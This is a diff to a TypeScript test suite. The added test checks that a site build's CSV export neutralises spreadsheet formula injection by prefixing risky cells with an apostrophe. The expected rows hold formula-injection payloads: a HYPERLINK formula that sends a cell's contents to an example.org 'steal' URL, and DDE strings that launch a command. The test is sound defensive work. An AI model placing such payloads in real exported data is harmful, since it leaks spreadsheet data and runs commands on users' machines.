@@ -9,7 +9,8 @@ import { parseHTML } from 'linkedom';
 import sharp from 'sharp';
 import { listFiles } from '../../src/build/checks/leaks.ts';
 import { build, hasStackTrace, type Run } from './run.ts';
-import { hostileFixture, longName, payload, rtl } from './fixture.ts';
+import { csvParse } from 'd3-dsv';
+import { formulaRows, hostileFixture, longName, payload, rtl } from './fixture.ts';
 
 describe('hostile but valid content', () => {
   const fixture = hostileFixture();
@@ -97,5 +98,23 @@ describe('hostile but valid content', () => {
     expect(csv.split('\n').map((line) => line.split(',').at(-2))).toContain('1e+308');
     const json = JSON.parse(readFileSync(join(dist, 'data/extremes.json'), 'utf8'));
     expect(JSON.stringify(json)).toContain('1e+308');
+  });
+
+  it('no CSV cell runs as a spreadsheet formula: text starting with = + - @ or a tab gets a leading apostrophe; numbers, and text that is one, stay as they are', () => {
+    const rows = csvParse(readFileSync(join(dist, 'data/formulas.csv'), 'utf8'));
+    expect(rows.map((row) => [row.label, row.value])).toEqual([
+      [`'=HYPERLINK("https://example.org/steal?d="&A1,"Details")`, '1'],
+      ["'+cmd|' /C calc'!A0", '-2'],
+      ["'-2+3", '-40.5'],
+      ["'@SUM(1+1)*cmd|' /C calc'!A0", '0'],
+      ["'\t=1+1", '3'],
+      ['-12.5', '4'],
+      ['+7', '5'],
+      ['Plain text = fine', '6'],
+    ]);
+    // The JSON download and the page keep the text as written: only a spreadsheet runs a cell.
+    const json = JSON.parse(readFileSync(join(dist, 'data/formulas.json'), 'utf8'));
+    expect(json.rows.map((row: { label: string }) => row.label)).toEqual(formulaRows.map(([label]) => label));
+    expect(text('data/formulas/index.html')).toContain(formulaRows[0]![0]);
   });
 });
